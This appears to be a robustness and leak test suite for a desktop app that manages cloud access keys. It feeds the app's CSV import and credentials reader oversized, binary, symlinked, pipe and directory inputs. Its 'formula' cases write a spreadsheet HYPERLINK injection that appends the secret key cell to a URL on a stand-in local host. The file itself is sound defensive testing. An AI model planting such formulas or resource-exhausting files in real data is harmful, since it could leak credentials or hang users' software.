import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, test } from 'vitest';
import type { RunningApplication } from '../../support/application.ts';
import { itemOf, openScene, type Scene } from '../scene.ts';

let scene: Scene;
beforeEach(async () => {
  scene = await openScene();
});
afterEach(async () => {
  await scene?.close();
});

const head = 'Access key ID,Secret access key';
test('csv probe', async () => {
  const keyturn: RunningApplication = await scene.start();
  const page = await keyturn.page();
  await itemOf(page, 'default').getByText('93 days old').waitFor();
  const row = `${scene.oldKey.id},${scene.oldKey.secret}`;
  const csv = join(scene.desktop.home, 'accessKeys.csv');
  const cases: Record<string, () => Promise<void>> = {
    huge: async () => {
      await writeFile(csv, `${head}\n${row}\n`);
      await truncate(csv, 10 * 1024 ** 3);
    },
    binary: () =>
      writeFile(csv, Buffer.concat([randomBytes(30000), Buffer.from(`${head}\n${row}\n`)])),
    formula: () =>
      writeFile(
        csv,
        `${head}\n=HYPERLINK("http://127.0.0.1:1/?"&B2;"${scene.oldKey.id}"),${scene.oldKey.secret}\n`,
      ),
    line: () => writeFile(csv, `${head}\n${row}${'x'.repeat(10_000_000)}\n`),
    loop: () => symlink(csv, csv),
    device: () => symlink('/dev/zero', csv),
    pipe: async () => {
      execFileSync('mkfifo', [csv]);
    },
    folder: async () => {
      execFileSync('mkdir', [csv]);
    },
  };
  await keyturn.app.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [path] });
  }, csv);
  for (const [name, make] of Object.entries(cases)) {
    await make();
    await page.getByRole('button', { name: 'Add access key' }).click();
    await page.getByRole('button', { name: 'Choose CSV file' }).click();
    await new Promise((r) => setTimeout(r, 2500));
    console.log(
      name,
      '=>',
      await page.getByRole('dialog').innerText(),
      (await page.content()).includes(scene.oldKey.secret),
    );
    await page
      .getByRole('dialog')
      .getByRole('button', { name: /Cancel|Close/ })
      .first()
      .click();
    await rm(csv, { recursive: true });
  }
});
test('creds probe', async () => {
  const keyturn = await scene.start();
  const page = await keyturn.page();
  await itemOf(page, 'default').getByText('93 days old').waitFor();
  const text = scene.original.toString();
  const cases: Record<string, () => Promise<void>> = {
    huge: async () => {
      await writeFile(scene.file, text, { mode: 0o600 });
      await truncate(scene.file, 10 * 1024 ** 3);
    },
    binary: () =>
      writeFile(scene.file, Buffer.concat([randomBytes(30000), Buffer.from(text)]), {
        mode: 0o600,
      }),
    formula: () =>
      writeFile(scene.file, `[=HYPERLINK("http://127.0.0.1")]\n${text}`, { mode: 0o600 }),
    line: () =>
      writeFile(scene.file, `${text}\nnote = ${'x'.repeat(10_000_000)}\n`, { mode: 0o600 }),
    loop: () => symlink(scene.file, scene.file),
    device: () => symlink('/dev/zero', scene.file),
    pipe: async () => {
      execFileSync('mkfifo', [scene.file]);
    },
    folder: async () => {
      execFileSync('mkdir', [scene.file]);
    },
  };
  for (const [name, make] of Object.entries(cases)) {
    await rename(scene.file, `${scene.file}.old`).catch(() => undefined);
    await rm(scene.file, { recursive: true, force: true });
    await make();
    await page
      .getByRole('button', { name: 'Check again' })
      .click()
      .catch((e: unknown) => console.log(String(e).slice(0, 100)));
    await new Promise((r) => setTimeout(r, 2500));
    console.log(
      name,
      '=>',
      (await page.locator('main').innerText()).slice(0, 900),
      (await page.content()).includes(scene.oldKey.secret),
    );
    await rm(scene.file, { recursive: true, force: true });
  }
});
